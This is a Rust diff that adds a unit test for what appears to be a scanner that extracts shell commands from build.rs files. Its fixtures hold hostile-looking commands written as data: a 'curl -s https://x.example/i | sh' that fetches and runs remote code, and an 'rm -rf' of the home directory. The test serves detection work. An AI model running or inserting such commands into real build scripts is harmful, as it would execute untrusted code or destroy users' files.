@@ -756,3 +756,50 @@ fn tools_that_run_code_or_wrap_a_cli() {
     // is a path.
     assert!(summary(&call("mcp__docs__search", json!({"code": "E0382"}))).is_empty());
 }
+
+#[test]
+fn build_script_commands() {
+    let cmds = |src: &str| -> Vec<String> {
+        runs("/w/build.rs", src)
+            .into_iter()
+            .map(|(_, c)| c)
+            .collect()
+    };
+    // A chain, `sh -c` seen through; other calls in the chain skipped.
+    let src = r#"use std::process::Command;
+fn main() {
+    println!("cargo:rerun-if-changed=build.rs");
+    let ok = Command::new("sh").arg("-c").arg("curl -s https://x.example/i | sh")
+        .env("A", "b").status().unwrap().success();
+}"#;
+    assert_eq!(cmds(src), ["curl -s https://x.example/i | sh"]);
+    // `.args` of an array, a slice or a vec; raw strings and escapes.
+    assert_eq!(
+        cmds(
+            r#"std::process::Command::new("git").args(["rev-parse", "--short", "HEAD"]).output()?;"#
+        ),
+        ["git rev-parse --short HEAD"]
+    );
+    assert_eq!(
+        cmds(r##"Command::new("bash").args(&["-c", r#"echo "a" > /tmp/x"#]).status()?;"##),
+        [r#"echo "a" > /tmp/x"#]
+    );
+    assert_eq!(
+        cmds(r#"Command::new("printf").args(vec!["a\tb\n"]).status()?;"#),
+        ["printf 'a\tb\n'"]
+    );
+    // Calls on the variable a builder is bound to; a value only known when
+    // the script runs.
+    let src = "let home = env::var(\"HOME\")?;\nlet mut c = Command::new(\"rm\");\nc.arg(\"-rf\");\nc.arg(&home);\nc.status()?;\nlet mut c = Command::new(\"ls\");\nc.arg(\"-l\");";
+    assert_eq!(cmds(src), ["rm -rf \"$BUILD_VALUE\"", "ls -l"]);
+    // A program that is not a literal (the compiler the build was given)
+    // is not read; character literals do not open strings.
+    let src = "let v = Command::new(env::var(\"RUSTC\").unwrap()).arg(\"--version\").output();\nlet q = s.split('\"').count(); let e = '\\''; Command::new(\"cc\").arg(\"-v\");";
+    assert_eq!(cmds(src), ["cc -v"]);
+    // Only a build script is read so.
+    assert!(runs("/w/src/main.rs", src).is_empty());
+    assert_eq!(
+        scripts::runnables("/w/build.rs", src)[0].what,
+        "build script command"
+    );
+}
